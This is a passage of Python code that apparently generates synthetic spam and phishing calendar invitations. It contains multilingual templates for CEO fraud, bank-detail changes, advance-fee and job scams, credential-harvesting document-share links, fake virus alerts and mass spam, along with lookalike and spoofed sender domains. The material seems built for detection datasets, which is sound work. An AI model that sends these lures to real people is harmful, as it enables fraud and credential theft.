# =========================================================================== 9 BEC
BEC_T = {
    'en': [('Quick call', 'Hi {name}, are you at your desk? I need you to handle something discreetly for me today. Let me know when you are free.\n\n{boss}\nSent from my iPhone'),
           ('Gift cards for the team', 'Hi {name}, I want to surprise some of our staff with gift cards today. Can you get {n} x {amount} Apple gift cards? I\'ll reimburse you. Keep it between us for now.\n{boss}'),
           ('Updated remittance details', 'Dear {name},\nplease note that our bank details have changed following our annual audit. All pending invoices should be paid to the new account below from today:\nIBAN: {iban}\nBIC: {bic}\nKind regards,\n{supplier}'),
           ('Direct deposit change', 'Hello,\nI changed banks and would like my salary paid into my new account before the next payroll run. Can you let me know the form you need?\nThanks,\n{emp}'),
           ('Confidential – acquisition', 'Hi {name},\nwe are finalising a confidential acquisition. Our lawyer will contact you about a wire transfer of {wire}. Please treat this with discretion and do not discuss internally.\n{boss}'),
           ('Outstanding invoice {inv}', 'Hi {name}, kindly find our overdue invoice {inv} and arrange payment today. Note our new bank account ({iban}).\nBest,\n{supplier}')],
    'de': [('Kurze Abstimmung', 'Hallo {name}, sind Sie gerade erreichbar? Ich brauche heute diskret Ihre Unterstützung bei einer Überweisung. Bitte melden Sie sich nur per E-Mail.\n{boss}'),
           ('Neue Bankverbindung', 'Sehr geehrte Damen und Herren,\naufgrund eines Bankwechsels bitten wir, alle offenen Rechnungen ab sofort auf folgendes Konto zu überweisen:\nIBAN: {iban}\nMit freundlichen Grüßen\n{supplier}')],
    'fr': [('Opération confidentielle', 'Bonjour {name}, je suis en réunion mais j\'ai besoin de vous pour un virement urgent et confidentiel. Répondez-moi uniquement par e-mail.\n{boss}')],
    'es': [('Cambio de cuenta bancaria', 'Estimado/a {name}:\nle informamos de que hemos cambiado de entidad bancaria. Por favor, realice los próximos pagos a:\nIBAN: {iban}\nSaludos,\n{supplier}')],
    'it': [('Richiesta urgente', 'Ciao {name}, sei in ufficio? Ho bisogno che tu gestisca un bonifico riservato oggi. Scrivimi solo via mail.\n{boss}')],
    'nl': [('Gewijzigde bankgegevens', 'Beste {name},\nons rekeningnummer is gewijzigd. Wilt u openstaande facturen voortaan overmaken naar:\nIBAN: {iban}\nMet vriendelijke groet,\n{supplier}')],
    'zh': [('紧急事项', '{name}，你好。我在开会，不方便接电话。今天需要你处理一笔保密的付款，请只通过邮件回复我。\n{boss}')],
    'ja': [('至急のお願い', '{name}さん\nお疲れ様です。会議中のため電話に出られません。本日中に機密の送金をお願いしたい件があります。メールでのみご返信ください。\n{boss}')],
}


@cat('bec', 14, 'de fr es it nl zh ja', 'exchange exchange outlook outlook google google yahoo thunderbird zimbra sogo icloud custom exchange google',
     'business e-mail compromise: CEO fraud, gift cards, supplier bank-detail and payroll changes')
def bec(c):
    rc = c.rcpt
    boss = c.person()
    sup = rc['org']['name'] if False else world.corp(c.rng, c.lang)
    emp = c.person()
    iban = c.pick(['GB%02d MIDL %s %s %s' % (c.rng.randint(10, 99), c.rng.digits(4), c.rng.digits(4), c.rng.digits(6)),
                   'DE%02d %s %s %s %s %s' % (c.rng.randint(10, 99), c.rng.digits(4), c.rng.digits(4), c.rng.digits(4), c.rng.digits(4), c.rng.digits(2)),
                   'LT%02d %s %s %s %s' % (c.rng.randint(10, 99), c.rng.digits(4), c.rng.digits(4), c.rng.digits(4), c.rng.digits(4)),
                   'HK%s' % c.rng.digits(12)])
    s = dict(name=c.rfirst(), boss=boss['name'], supplier=sup['name'], emp=emp['name'], n=c.pick([5, 8, 10]), amount=c.money(100, 200, False, 'en'),
             iban=iban, bic=c.rng.alnum(8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'), wire=c.money(48000, 290000, False), inv='INV-%s' % c.rng.digits(5))
    summ, desc = c.t(BEC_T, s)
    who = emp if 'salary' in desc or 'payroll' in desc else boss
    supplier = sup['name'] in desc
    if supplier:
        org = c.org(['lookalike', 'compromised', 'free'], name=sup['name'] if c.chance(0.3) else c.person()['name'],
                    local=c.pick(['accounts', 'finance', 'billing', None]), domain=world.lookalike_of(c.rng, sup['domain']) if c.chance(0.7) else None)
        if org['kind'] == 'compromised':
            org['domain'] = sup['domain']
    else:
        org = c.org(['free', 'lookalike', 'spoof'], name=who['name'], person=who)
        if org['kind'] == 'free' and c.chance(0.5):
            org['local'] = c.pick(['ceo', 'office', 'exec']) + '.' + who['ll'].lower() + c.rng.digits(2)
    e = c.ev(summ, desc, c.pick([None, None, 'Phone', 'Office']), c.when(days=(0, 1), hours=(9, 16), dur=(15, 30)))
    return c.msg(org, [e], method=c.pick(['REQUEST', 'REQUEST', 'REQUEST', 'PUBLISH']) if c.client in ('custom', 'thunderbird') else 'REQUEST')


# =========================================================================== 10 advance fee
AFEE_T = {
    'en': [('Re: Inheritance claim {ref}', 'Dear friend,\nI am Barrister {lawyer}, personal attorney to the late engineer {dead}, who died with a deposit of {usd}. You share the same surname and I seek your consent to present you as next of kin. Reply to my private e-mail {priv}.'),
           ('UN compensation payment – beneficiary {ref}', 'This is to notify you that your compensation fund of {usd} has been approved by the United Nations payment committee. Contact the paying bank via {priv} with your full name and phone number.'),
           ('Business proposal', 'Good day, I am {lawyer}, a director at a bank in {city}. I have a profitable transaction involving {usd} and need a reliable foreign partner. 40% is yours. Contact: {priv}'),
           ('Donation for you', 'Hello, I am a lottery winner and I am donating {usd} to five random people this year. Your e-mail was selected. Contact my secretary: {priv}')],
    'fr': [('Héritage de feu M. {dead}', 'Cher ami,\nje suis Maître {lawyer}, avocat du défunt {dead}, décédé en laissant un dépôt de {usd}. Je souhaite vous présenter comme héritier. Écrivez-moi à {priv}.')],
    'es': [('Propuesta confidencial', 'Estimado amigo, soy {lawyer}, abogado del difunto {dead}, quien dejó un depósito de {usd} sin herederos. Necesito su colaboración. Escríbame a {priv}.')],
    'ar': [('عرض عمل سري', 'السلام عليكم، أنا {lawyer}، محامي المرحوم {dead} الذي ترك وديعة بقيمة {usd}. أرجو التواصل معي على {priv} لمناقشة الأمر.')],
    'ru': [('Наследство {dead}', 'Уважаемый друг, я адвокат {lawyer}. Мой клиент {dead} скончался, оставив вклад {usd}. Прошу связаться со мной по адресу {priv}.')],
    'pt': [('Herança não reclamada', 'Prezado amigo, sou o advogado {lawyer}. O falecido {dead} deixou um depósito de {usd} sem herdeiros. Entre em contato: {priv}')],
}


@cat('advance-fee', 10, 'fr es ar ru pt', 'yahoo exchange outlook google thunderbird zimbra sogo icloud list yahoo',
     'advance-fee fraud: inheritances, UN compensation, bank-director proposals')
def afee(c):
    lawyer = c.pick(['James Morgan', 'Peter Akpan', 'Williams Eze', 'Abdul Rahman', 'Carlos Mendes', 'Laura Grant'])
    s = dict(ref='UN/%s/%d' % (c.rng.alnum(3).upper(), c.rng.randint(100, 999)), lawyer=lawyer, dead=c.pick(['Robert ' + c.rcpt['p']['last'], c.rcpt['p']['last'], 'Mr. ' + c.rcpt['p']['ll']]),
             usd='US$%d,%03d,000.00' % (c.rng.randint(2, 27), c.rng.randint(100, 900)), priv=world.slug(lawyer).replace('-', '.') + c.rng.digits(2) + '@' + c.pick(['gmail.com', 'outlook.com', 'proton.me', 'yahoo.com', 'aol.com']),
             city=c.pick(['Lomé', 'Accra', 'Ouagadougou', 'Johannesburg', 'Madrid']))
    summ, desc = c.t(AFEE_T, s)
    org = c.org(['free', 'compromised', 'spoof'], name=c.pick([lawyer, 'Barr. ' + lawyer, 'United Nations Payment Office', 'Compensation Desk']), local=c.junk_local(lawyer))
    e = c.ev(summ, desc, None, c.when(days=(0, 7), hours=(8, 20), dur=(30, 60)))
    return c.msg(org, [e], reply_to=s['priv'], mass=c.pick([0, 0, c.rng.randint(8, 90)]))


# =========================================================================== 11 task / job scams
TASK_T = {
    'en': [('Remote position – {pay}/day', 'Hi! I\'m {hr} from {agency}. We found your CV online. Simple online tasks, 60–90 minutes a day, {pay} daily, paid same day. Interested? Message me on WhatsApp {phone}.'),
           ('Part-time job offer (no experience needed)', 'Rate hotels and products from home and earn {pay} per day. Training is free. Contact our coordinator on Telegram: @{tg}'),
           ('Interview invitation – Data Entry (remote)', 'Congratulations, your application was shortlisted. The interview will be held on Telegram. Add @{tg} and send the code {code}.'),
           ('Hi {name} 👋', 'Are you looking for a side income? Our app-optimisation team is hiring. Earn {pay}/day. WhatsApp: {phone}')],
    'hi': [('वर्क फ्रॉम होम – रोज़ {pay}', 'नमस्ते! घर बैठे आसान ऑनलाइन काम, रोज़ 1 घंटा, भुगतान उसी दिन। अधिक जानकारी के लिए WhatsApp करें: {phone}')],
    'th': [('งานออนไลน์ทำที่บ้าน รายได้วันละ {pay}', 'สวัสดีค่ะ รับสมัครคนกดไลก์สินค้า ทำวันละ 1 ชม. ได้เงินทุกวัน สนใจแอดไลน์: {tg}')],
    'ko': [('재택 부업 모집 – 일 {pay}', '안녕하세요. 간단한 온라인 업무로 하루 {pay} 수익. 경험 필요 없음. 텔레그램 @{tg} 으로 연락 주세요.')],
    'zh': [('兼职招聘：日结{pay}', '您好！我们正在招聘线上兼职，每天1小时，当天结算。请添加客服微信/WhatsApp：{phone}')],
    'ar': [('وظيفة من المنزل – {pay} يوميًا', 'مرحبًا، لدينا وظيفة بدوام جزئي عبر الإنترنت براتب يومي. للتواصل عبر واتساب: {phone}')],
    'el': [('Εργασία από το σπίτι – {pay} την ημέρα', 'Γεια σας! Απλές διαδικτυακές εργασίες 1 ώρα την ημέρα, πληρωμή αυθημερόν. Επικοινωνήστε στο WhatsApp: {phone}')],
}


@cat('task-job-scam', 10, 'hi th ko zh ar el', 'google google yahoo exchange icloud zoom custom booking list booking',
     'task and job scams that move victims to WhatsApp or Telegram')
def task(c):
    hr = c.person('en')['name']
    s = dict(pay=c.money(150, 800, False), hr=hr, agency=c.pick(['Randstad Digital', 'Hays Remote', 'TalentBridge', 'Adecco Online', 'Appen Partners']),
             phone=c.phone(lang=c.pick(['en', c.lang, 'hi'])), tg=c.rng.alnum(7).lower() + c.pick(['_hr', '_job', '88', '_team']), code=c.rng.digits(6), name=c.rfirst())
    summ, desc = c.t(TASK_T, s)
    org = c.org(['free', 'compromised', 'throwaway'], name=c.pick([hr, s['agency'], 'HR Department', c.person()['name']]), person=c.person('en'))
    e = c.ev(summ, desc, c.pick([None, 'WhatsApp', 'Telegram', 'Online']), c.when(days=(0, 3), hours=(9, 20), dur=(15, 45)))
    return c.msg(org, [e], mass=c.pick([0, 0, c.rng.randint(10, 120)]))


# =========================================================================== 12 compromised partner document share
DOC_T = {
    'en': [('{doc}', 'Hi,\nplease find the {doc} shared via OneDrive. Let me know if you have any questions.\n\nView document: {link}\n\nRegards,\n{sender}'),
           ('Shared: {doc}', '{sender} has shared a file with you.\n{doc}\nOpen: {link}'),
           ('Review: {doc}', 'Good morning,\nas discussed, here is the updated {doc}. Please review before our call.\n{sender}'),
           ('{company} – {doc}', 'Dear partner,\nwe have sent you a secure document. Access it with your e-mail credentials.\n{link}')],
    'de': [('{doc}', 'Hallo,\nanbei wie besprochen das Dokument {doc} über SharePoint.\nDokument öffnen: {link}\n\nViele Grüße\n{sender}')],
    'pl': [('Udostępniony dokument: {doc}', 'Dzień dobry,\nprzesyłam dokument {doc}. Proszę o weryfikację.\n{link}\nPozdrawiam,\n{sender}')],
    'cs': [('Sdílený dokument: {doc}', 'Dobrý den,\nposílám slíbený dokument {doc}.\nOtevřít: {link}\nS pozdravem\n{sender}')],
    'sv': [('Delat dokument: {doc}', 'Hej,\nhär är dokumentet {doc} som vi pratade om.\nÖppna: {link}\nMvh\n{sender}')],
    'tr': [('Paylaşılan belge: {doc}', 'Merhaba,\n{doc} belgesini OneDrive üzerinden paylaştım. İncelemenizi rica ederim.\n{link}\nSaygılarımla,\n{sender}')],
    'he': [('מסמך משותף: {doc}', 'שלום,\nמצורף המסמך {doc} כפי שסיכמנו.\nלצפייה: {link}\nבברכה,\n{sender}')],
}
DOCS = {'en': ['Remittance Advice', 'Purchase Order 4471', 'Statement of Account', 'Project Proposal', 'Signed Agreement', 'RFQ documents'],
        'de': ['Rechnung 2024-118', 'Angebot Projekt Nord', 'Zahlungsavis'], 'pl': ['Faktura VAT 118/2024', 'Zamówienie'], 'cs': ['Faktura 2024118', 'Objednávka'],
        'sv': ['Faktura 5531', 'Offert'], 'tr': ['Fatura', 'Teklif Dosyası'], 'he': ['חשבונית', 'הצעת מחיר']}


@cat('compromised-doc-share', 12, 'de pl cs sv tr he', 'exchange exchange outlook google zimbra sogo nextcloud thunderbird icloud yahoo exchange outlook',
     'document-share lures sent from compromised real partner mailboxes')
def docshare(c):
    partner = world.corp(c.rng, c.lang)
    sender = c.person()
    doc = c.pick(DOCS.get(c.lang, DOCS['en']))
    link = c.pick([world.abuse_host_link(c.rng, 'sharepoint'), 'https://%s-my.sharepoint.com.%s/personal/%s' % (partner['domain'].split('.')[0], world.throwaway_domain(c.rng), c.rng.alnum(10)),
                   'https://%s/:b:/g/%s' % (world.throwaway_domain(c.rng), c.rng.alnum(22)), world.abuse_host_link(c.rng, 'docs')])
    s = dict(doc=doc, link=link, sender=sender['name'], company=partner['name'])
    summ, desc = c.t(DOC_T, s)
    org = c.org(['compromised', 'free'], name=sender['name'], person=sender, domain=partner['domain'])
    e = c.ev(summ, desc, c.pick([None, 'Microsoft Teams Meeting', link]), c.when(days=(0, 3), hours=(9, 16), dur=(30, 30)))
    if link not in desc or c.chance(0.4):
        payload_place(c, e, link, 'Open document')
    if c.client == 'exchange' and c.chance(0.4):
        e['meeting'] = 'teams'
    return c.msg(org, [e])


# =========================================================================== 13 nagging payloads
NAG_T = {
    'en': [('⚠️ Your iPhone is infected with (5) viruses', 'Tap here to remove the viruses now: {link}'),
           ('Claim your {brand} reward – reminder', 'Your reward is still waiting. {link}'),
           ('iCloud storage full – photos will be deleted', 'Upgrade now to keep your photos: {link}'),
           ('Daily winner notification', 'You were selected again today. Confirm: {link}'),
           ('Your subscription ends today', 'Renew at a 90% discount: {link}')],
    'ru': [('⚠️ Ваш телефон заражён вирусами', 'Нажмите, чтобы удалить вирусы: {link}')],
    'ja': [('【警告】iPhoneがウイルスに感染しています', '今すぐ削除してください：{link}')],
    'zh-TW': [('⚠️ 您的手機已感染病毒', '立即點擊清除：{link}')],
    'it': [('⚠️ Il tuo iPhone è infetto', 'Tocca qui per rimuovere i virus: {link}')],
    'th': [('⚠️ โทรศัพท์ของคุณติดไวรัส', 'แตะเพื่อกำจัดไวรัสทันที: {link}')],
}


@cat('nag-payload', 10, 'ru ja zh-TW it th', 'custom custom icloud google thunderbird outlook nextcloud booking exchange booking',
     'nagging payloads: endless recurrence, many alarms, far-future or past dates')
def nag(c):
    link = c.pick([world.shortlink(c.rng), world.abuse_host_link(c.rng), 'https://' + world.throwaway_domain(c.rng) + '/?c=' + c.rng.alnum(6)])
    summ, desc = c.t(NAG_T, dict(link=link, brand=c.pick(PRIZE_BRANDS)))
    org = c.org(['throwaway', 'free', 'spoof', 'compromised'], name=c.pick(['Apple', 'Security Alert', 'System', 'Calendar', 'Winner', '⚠️']), local=c.junk_local())
    kind = c.rng.randint(0, 3)
    e = c.ev(summ, desc, c.pick([link, None]), c.when(days=(0, 1), hours=(0, 23), dur=(10, 30)))
    if kind == 0:
        e['rrule'] = c.pick(['FREQ=DAILY', 'FREQ=HOURLY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=MINUTELY;INTERVAL=30'])
    elif kind == 1:
        e['alarms'] = ['-PT%dM' % i for i in c.rng.sample(range(0, 600, 5), c.rng.randint(8, 25))]
        e['rrule'] = c.pick([None, 'FREQ=WEEKLY'])
    elif kind == 2:
        y = c.pick([2099, 2075, 2050, 2100])
        e['start'] = e['start'].replace(year=y)
        e['end'] = e['end'].replace(year=y)
        e['rrule'] = 'FREQ=DAILY'
        e['alarms'] = ['-PT0M', '-PT1M']
    else:
        e['start'] = e['start'] - dt.timedelta(days=c.rng.randint(300, 3000))
        e['end'] = e['start'] + dt.timedelta(minutes=30)
        e['rrule'] = 'FREQ=DAILY;COUNT=9999'
        e['alarms'] = ['-PT0M']
    evs = [e]
    if c.chance(0.4):
        for i in range(c.rng.randint(3, 12)):
            e2 = dict(e)
            e2['start'] = e['start'] + dt.timedelta(days=i + 1, hours=c.rng.randint(0, 5))
            e2['end'] = e2['start'] + dt.timedelta(minutes=30)
            e2['uid'] = None
            evs.append(e2)
    sl = c.pick([set(), {'nofold'}, {'lf'}, {'noesc', 'nodtstamp'}, {'tabfold'}, {'nomethodparam'}])
    m = c.msg(org, evs, sloppy=sl)
    if c.chance(0.4):
        m['method'] = c.pick([None, 'PUBLISH'])
        m['ct_method'] = 'REQUEST'
    return m


# =========================================================================== 14 mass invitations
MASS_T = {
    'en': [('Professional SEO – page 1 on Google in 30 days', 'We can put {site} on page 1. Packages from {price}. Reply for a free audit.\n{link}'),
           ('Canadian Pharmacy – 80% off, no prescription', 'Viagra, Cialis, Levitra from {price} per pill. Discreet worldwide delivery. {link}'),
           ('Swiss replica watches – {pct}% off', 'Top quality replica Rolex, Omega, AP. Shipping in 3 days. {link}'),
           ('Fast loans up to {amount} – approval in 5 minutes', 'No credit check. Money today. Apply: {link}'),
           ('Lose 12 kg in 30 days', 'Doctors hate this trick. Keto gummies now {pct}% off: {link}'),
           ('Casino welcome bonus 500% + 200 free spins', 'Register today and claim your bonus: {link}')],
    'es': [('Préstamos rápidos hasta {amount}', 'Sin aval, aprobación en 5 minutos. Solicítalo aquí: {link}')],
    'ko': [('[광고] 무료 스핀 200회 + 보너스 500%', '지금 가입하고 보너스를 받으세요: {link}')],
    'hi': [('[विज्ञापन] 30 दिन में 12 किलो वज़न घटाएं', 'अभी ऑर्डर करें, {pct}% छूट: {link}')],
    'el': [('Γρήγορα δάνεια έως {amount}', 'Χωρίς εγγυητή, έγκριση σε 5 λεπτά: {link}')],
    'sv': [('SEO-tjänster – topplacering på Google', 'Vi placerar {site} på sida 1. Paket från {price}. {link}')],
    'nl': [('Snel geld lenen tot {amount}', 'Zonder BKR-toets, vandaag nog op je rekening: {link}')],
}


@cat('mass-invite', 10, 'es ko hi el sv nl', 'google exchange icloud yahoo custom zoom list booking nextcloud google',
     'mass invitations to hundreds of unrelated attendees (pharma, SEO, loans, casino, replicas)')
def mass(c):
    link = c.pick(['https://' + world.throwaway_domain(c.rng) + '/' + c.rng.alnum(5), world.shortlink(c.rng), world.abuse_host_link(c.rng)])
    s = dict(site=c.rcpt['domain'], price=c.money(0.5, 199), link=link, pct=c.pick([50, 70, 80]), amount=c.money(1000, 5000, False))
    summ, desc = c.t(MASS_T, s)
    org = c.org(['free', 'throwaway', 'compromised'], name=c.pick([None, 'Promo', c.person('en')['name'], 'Offers']), local=c.junk_local())
    e = c.ev(summ, desc, c.pick([link, None, 'Online']), c.when(days=(0, 5), hours=(6, 22), dur=(30, 120)))
    if c.chance(0.4):
        payload_place(c, e, link, 'Open')
    n = c.rng.randint(120, 480)
    return c.msg(org, [e], mass=n, no_rcpt_att=c.chance(0.4))
